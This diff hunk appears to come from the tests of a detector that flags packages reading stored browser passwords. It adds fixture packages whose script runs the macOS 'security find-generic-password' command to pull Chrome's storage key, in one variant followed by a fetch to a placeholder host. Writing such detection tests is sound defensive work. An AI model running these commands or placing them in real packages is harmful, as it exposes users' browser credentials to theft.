@@ -58,6 +58,16 @@ examine(unlocksStoredPasswords, {
       },
       weight: 'weak',
     },
+    ...(['', `; fetch('https://a.invalid')`] as const).map(sends => ({
+      when: `a command asks for the key of a browser, as its page says${sends && ', and asks a host'}`,
+      files: {
+        'package.json': { name: 'x', version: '1.0.0', bin: 'b.js' },
+        'README.md':
+          'Reads the cookies of one site from the database of Chrome, so that your scripts can ask for what you see when you have logged in there.',
+        'b.js': `${CP} cp.execSync('security find-generic-password -wa "Chrome"')${sends}`,
+      },
+      weight: sends ? ('strong' as const) : ('weak' as const),
+    })),
     {
       when: 'a command reads the entries of another',
       id: { name: '@acme/specimen-cli' },
